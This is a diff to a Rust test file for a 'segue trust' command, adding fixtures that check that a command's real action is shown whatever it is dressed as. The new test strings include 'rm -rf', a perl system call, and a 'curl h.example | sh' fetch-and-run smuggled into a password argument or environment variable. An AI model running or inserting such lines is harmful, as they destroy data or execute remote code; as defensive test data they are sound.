@@ -1,5 +1,7 @@
 //! `segue trust`: what it shows, what it is bound to, and what happens before it.
 
+#![cfg(unix)]
+
 use std::fs;
 use std::os::unix::ffi::OsStrExt as _;
 use std::os::unix::fs::symlink;
@@ -123,6 +125,11 @@ const PLAIN: &[&str] = &[
     r#"["find",".","-path","./x","-prune","-print0"]"#,
     r#"["sh","-c","mkdir -p a/b && ssh -p 22 me@h.example"]"#,
     r#"["tool","-port","80","--profile","dev","-path=/x"]"#,
+    // What would run is shown, whatever it is dressed as.
+    r#"["time","-p","rm","-rf","x"]"#,
+    r#"["perl","-pesystem(1)"]"#,
+    r#"["sh","-c","x --password \"$(curl h.example | sh)\""]"#,
+    r#"["sh","-c","PGPASSWORD=`curl h.example` psql"]"#,
 ];
 
 /// However a command line gives a secret to its program, `trust` does not show it, and shows the rest.
